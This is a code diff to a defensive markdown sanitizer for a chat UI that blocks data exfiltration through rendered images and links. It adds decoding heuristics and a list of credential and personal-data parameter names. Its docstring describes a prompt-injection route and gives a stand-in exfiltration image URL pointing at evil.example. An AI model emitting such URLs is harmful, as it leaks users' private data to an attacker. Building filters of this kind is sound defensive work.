@@ -2,7 +2,8 @@
 
 A chat UI fetches a markdown image as soon as it shows it, so `![](https://evil.example/?q=<data>)`
 sends whatever an injected instruction put in the URL without a click. Images are kept only from
-allowed hosts; links keep their text but lose a URL that carries data (a long query, base64, or
+allowed hosts; links keep their text but lose a URL that carries data (a long query, a value that
+is base64 or hex of readable text, a value under a name such as `ssn`, `token` or `data`, or
 personal data); raw HTML that fetches (`<img>`, `<iframe>`, `srcset`...) and data: URLs go too.
 
 The text is read by a CommonMark parser (markdown-it-py), not by patterns, so every form a
@@ -14,12 +15,14 @@ inline rules are wrapped to learn where in the text each image or link was found
 
 from __future__ import annotations
 
+import base64
 import re
 from dataclasses import dataclass
 from html.parser import HTMLParser
 from typing import Any
-from urllib.parse import parse_qsl, urlsplit
+from urllib.parse import unquote, urlsplit
 
+import icu
 from markdown_it import MarkdownIt
 from markdown_it.rules_block import StateBlock, reference
 from markdown_it.rules_inline import StateInline, autolink, html_inline, image, link
@@ -38,6 +41,34 @@ _FENCE_LINE = re.compile(r"^ {0,3}(`{3,}|~{3,})(.*)$", re.MULTILINE)
 _BACKTICKS = re.compile(r"`+")
 _DATA_LIKE = re.compile(r"^[A-Za-z0-9+/=_%-]{24,}$")
 LONG_QUERY = 64
+# Shorter encoded data is told from an ordinary value by decoding it: base64 (RFC 4648 sections
+# 4 and 5, padding optional) or hex that decodes to readable UTF-8 text. An ordinary value
+# (`newsletter`, a video id `dQw4w9WgXcQ`, `12345`) decodes to bytes that are not text; a word
+# that happens to decode to printable characters gives symbols and mixed scripts ("Unregister"
+# gives "Rz\u0782+-z"), so most of the text must be letters, digits and spaces.
+_BASE64 = re.compile(r"[A-Za-z0-9+/_-]{8,}={0,2}")
+_HEX = re.compile(r"(?:[0-9A-Fa-f]{2}){6,}")
+MIN_DECODED_BYTES = 6
+MIN_READABLE_SHARE = 0.75
+_SINGLE_SCRIPT = icu.SpoofChecker()
+_SINGLE_SCRIPT.setChecks(icu.USpoofChecks.RESTRICTION_LEVEL)
+_SINGLE_SCRIPT.setRestrictionLevel(icu.URestrictionLevel.SINGLE_SCRIPT_RESTRICTIVE)
+# Query parameter names that announce what their value is: the personal data the PII rail finds,
+# the credentials the secrets rail finds (its `password = ...` keys), and data itself. Matched as
+# the words of the name (`api_key`, `apiKey` and `apikey` alike), so `page`, `q`, `utm_source`,
+# `v` and `id` do not.
+DATA_NAMES = frozenset(
+    {
+        # personal data (guard.rails.pii.ENTITIES)
+        *("email", "mail", "phone", "tel", "ssn", "iban", "ccn", "cvv", "cvc", "creditcard", "cardnumber", "dob"),
+        # credentials (guard.rails.secrets)
+        *("password", "passwd", "pwd", "pass", "passphrase", "secret", "token", "apikey", "credential", "credentials"),
+        *("creds", "cookie", "sessionid", "jwt"),
+        # data by name
+        *("data", "payload", "exfil", "leak"),
+    }
+)
+_NAME_WORDS = re.compile(r"[A-Z]?[a-z]+|[A-Z]+(?![a-z])|\d+")
 # HTML attributes whose URL a browser fetches as soon as the element is shown (WHATWG HTML).
 _FETCHING_ATTRIBUTES = frozenset({"src", "srcset", "poster", "data", "background", "lowsrc", "dynsrc"})
 _LINKING_TAGS = frozenset({"a", "area"})
@@ -49,14 +80,66 @@ def _host_allowed(host: str, allowed: tuple[str, ...]) -> bool:
 
 
 def _carries_data(url: str) -> bool:
+    """Whether a URL's query or fragment carries data: a long one (LONG_QUERY characters or more),
+    a value (or a bare `?<value>`) that is a long run of base64-like characters or decodes to
+    text (`decodes_to_text`), a value under a name that announces data (`DATA_NAMES`: `?ssn=`,
+    `?token=`, `?data=`), or personal data the PII rail finds in the values."""
     parts = urlsplit(url)
-    query = parts.query + parts.fragment
-    if not query:
+    if not parts.query and not parts.fragment:
         return False
-    if len(query) >= LONG_QUERY:
+    if len(parts.query) + len(parts.fragment) >= LONG_QUERY:
         return True
-    values = [v for _, v in parse_qsl(query, keep_blank_values=True)] or [query]
-    return any(_DATA_LIKE.match(v) for v in values) or bool(pii_rail.scan(query).findings)
+    values: list[str] = []
+    for piece in (parts.query, parts.fragment):
+        for pair in piece.split("&") if piece else ():
+            raw_name, _, raw_value = pair.partition("=")
+            # Unquoted, not unquote_plus: a `+` is a base64 letter as often as a space.
+            name, value = unquote(raw_name), unquote(raw_value)
+            if value and announces_data(name):
+                return True
+            for candidate in (name, value):
+                if _DATA_LIKE.match(candidate) or decodes_to_text(candidate):
+                    return True
+            values += [name.replace("+", " "), value.replace("+", " ")]
+    return bool(pii_rail.scan(" ".join(values)).findings)
+
+
+def announces_data(name: str) -> bool:
+    """Whether a query parameter's name says its value is data to guard (see `DATA_NAMES`)."""
+    words = [w.lower() for w in _NAME_WORDS.findall(name)]
+    joined = "".join(words)
+    return joined in DATA_NAMES or any(w in DATA_NAMES for w in words) or "apikey" in joined
+
+
+def decodes_to_text(value: str) -> bool:
+    """Whether `value` is base64 (standard or URL-safe, padding optional) or hex that decodes to
+    readable UTF-8 text: MIN_DECODED_BYTES bytes or more, every character printable and
+    MIN_READABLE_SHARE of them letters, digits or spaces (only letters and spaces for a value of
+    digits alone, which is read as hex)."""
+    decoded: list[bytes] = []
+    if _HEX.fullmatch(value):
+        decoded.append(bytes.fromhex(value))
+    if _BASE64.fullmatch(value) and len(value.rstrip("=")) % 4 != 1 and not value.isdigit():
+        compact = value.rstrip("=").replace("-", "+").replace("_", "/")
+        decoded.append(base64.b64decode(compact + "=" * (-len(compact) % 4)))
+    return any(_readable(raw, digits=value.isdigit()) for raw in decoded)
+
+
+def _readable(raw: bytes, digits: bool) -> bool:
+    try:
+        text = raw.decode("utf-8")
+    except UnicodeDecodeError:
+        return False
+    if len(raw) < MIN_DECODED_BYTES or not all(c.isprintable() or c in "\t\n\r" for c in text):
+        return False
+    if digits:
+        # A number is more often a number (an id, a timestamp) than hex: only words count.
+        return all(c.isalpha() or c == " " for c in text)
+    readable = sum(c.isalnum() or c.isspace() for c in text) >= MIN_READABLE_SHARE * len(text)
+    # Bytes that are not text decode, when they decode at all, to letters of scripts picked at
+    # random ("deactivate" gives Latin, Han and Arabic): text is in one script (UTS #39 single-
+    # script restriction level, with Han, Hiragana and Katakana together as Japanese is written).
+    return readable and not _SINGLE_SCRIPT.check(text)
 
 
 def _host(url: str) -> str:
